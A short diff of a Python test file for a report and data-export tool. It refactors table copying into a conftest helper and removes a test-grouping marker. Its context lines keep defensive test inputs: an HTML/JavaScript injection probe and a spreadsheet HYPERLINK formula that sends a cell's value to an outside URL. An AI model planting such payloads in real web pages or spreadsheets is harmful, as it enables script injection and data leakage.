@@ -4,7 +4,6 @@ import csv
 import html
 import json
 import re
-import shutil
 import zipfile
 from contextlib import nullcontext
 from html.parser import HTMLParser
@@ -14,14 +13,13 @@ import frictionless
 import openpyxl
 import polars as pl
 import pytest
+from conftest import copy_tables
 
 from analysis.base import paths
 from analysis.export import datapackage
 from analysis.report import build
 from analysis.report.charts import render
 from analysis.tables import store
-
-pytestmark = pytest.mark.xdist_group("hostile_words")  # what its tests share is made once
 
 SCRIPT = "<script>alert('施策')</script><img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'
@@ -54,9 +52,7 @@ class Page(HTMLParser):
 def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The folder of a report on the committed tables, in which the first measure of 2026 is an attack."""
     processed, out = tmp_path_factory.mktemp("processed"), tmp_path_factory.mktemp("report")
-    for file in paths.committed().glob("*.jsonl"):
-        if file.stem != "texts":
-            shutil.copy(file, processed)
+    copy_tables(processed)
     with pytest.MonkeyPatch.context() as patch:
         patch.setenv("IP_PLAN_PROCESSED", str(processed))
         drawn = "<svg></svg>"
